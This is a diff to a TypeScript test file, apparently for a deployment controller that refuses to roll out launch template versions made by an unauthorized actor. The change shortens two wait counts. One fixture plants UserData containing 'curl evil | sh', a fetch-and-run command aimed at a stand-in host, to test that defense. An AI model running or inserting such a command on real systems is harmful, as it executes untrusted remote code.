@@ -37,7 +37,7 @@ test('a version of somebody is never rolled, and the deploy after it is', async 
     LaunchTemplateId: template().id, SourceVersion: '1', LaunchTemplateData: { UserData: Buffer.from('curl evil | sh').toString('base64') },
   }));
   const before = status().lastKnownGood!.configurationHash;
-  await shop.until(() => false, 3);
+  await shop.until(() => false, 1);
   expect(status()).toMatchObject({ phase: 'idle', lastKnownGood: { configurationHash: before } });
   expect(userData()).toEqual(Array(2).fill(expect.stringContaining('echo hello')));
   expect(alerts('fleet-foreign').join()).toContain(`made by ${mallory.sessionArn}`);
@@ -53,7 +53,7 @@ test('a fleet where nobody but the stack and its controller makes versions says 
   expect(await shop.until(() => status().lastKnownGood!.configurationHash !== before && !status().rollout, 6)).toBe(true);
   shop.ssm.put({ Name: '/taken', Value: 'taken', Type: 'String' });
   await expect(deploy({ userData: 'echo bad', fails: true })).rejects.toThrow(/UPDATE_ROLLBACK_COMPLETE/);
-  await shop.until(() => false, 3);
+  await shop.until(() => false, 1);
   expect(userData()).toEqual(Array(2).fill(expect.stringContaining('echo changed')));
   expect(alerts('fleet-foreign')).toEqual([]);
   expect(status()).toMatchObject({ phase: 'idle' });
